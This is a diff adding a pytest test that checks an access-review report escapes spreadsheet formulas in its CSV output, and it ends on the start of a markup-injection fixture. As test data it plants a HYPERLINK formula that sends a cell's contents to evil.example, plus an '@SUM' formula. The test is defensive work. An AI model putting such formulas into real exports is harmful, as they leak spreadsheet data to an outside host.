@@ -178,6 +178,26 @@ def test_csv_fields_with_commas_quotes_and_line_breaks_read_back_whole(world: Wo
     assert len({len(r) for r in rows}) == 1 and all(r["vendor"] for r in rows)  # no line split apart
 
 
+def test_a_name_or_reason_a_spreadsheet_would_run_as_a_formula_is_written_as_text(world: World) -> None:
+    """Names and reasons come from pull requests: opened in a spreadsheet, the report must not run
+    them (the evidence pack's rule: a leading `'`), and the rest of the report is unchanged."""
+    before = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    world.direct_push(
+        replace_text("access/people.yaml", "name: Grace Lin,", f"name: {_yaml_string(formula)},")
+    )
+    world.direct_push(replace_text("access/pingone.yaml", "reason: SEC-1042}", 'reason: "@SUM(1+1)"}'))
+    result = world.access("report", "--sandbox", "--no-sync", "--format", "csv")
+    assert result.code == 0, result.err
+    rows = list(csv.DictReader(io.StringIO(result.out)))
+    grace = [r for r in rows if r["person"] == "grace"]
+    assert grace and {r["name"] for r in grace} == {"'" + formula}
+    assert [r["reason"] for r in grace if r["resource"] == "Environment Admin"] == ["'@SUM(1+1)"]
+    others = [r for r in rows if r["person"] != "grace"]
+    assert others == [r for r in csv.DictReader(io.StringIO(before.out)) if r["person"] != "grace"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
 # A pull request's text that would pass for markup: a fake approval with a ping, an image, a link, an
 # image link, a table row of its own and a heading; the name would also end the page's data script.
 FAKE = (
